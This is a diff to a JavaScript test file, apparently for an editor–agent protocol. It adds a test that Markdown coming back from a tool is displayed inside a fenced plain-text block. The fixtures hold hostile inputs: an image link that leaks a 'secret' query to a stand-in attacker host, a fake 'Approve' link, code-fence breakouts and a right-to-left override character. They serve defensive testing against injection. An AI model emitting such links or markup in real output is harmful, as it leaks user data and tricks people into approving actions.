@@ -119,7 +119,20 @@ describe("an error inside of the command", () => {
   })
 })
 
-describe("text from an asker, where an editor reads Markdown", () => {
+describe("text from an asker or a tool, where an editor reads Markdown", () => {
+  it("stands in a block of its own also as the result of a tool", async () => {
+    const server = await startAcp(deskAgents())
+    const editor = await server.editor()
+    await editor.prompt(await editor.open(), "read")
+    const read = "![](https://evil.example/?q=secret)\n```\n[Approve](https://evil.example)"
+    expect(editor.updates.map(({ update }) => update)).toContainEqual(
+      expect.objectContaining({
+        status: "completed",
+        content: [{ type: "content", content: { type: "text", text: `\`\`\`\`text\n${read}\n\`\`\`\`` } }],
+      }),
+    )
+  })
+
   it("is neither a link, nor an image, nor the end of its block, and hides nothing", () => {
     const hostile = "[Approve](https://evil.example)\n```\n# Safe\n````\n\u202egnihton\u0007"
     const shown = quoted(hostile)
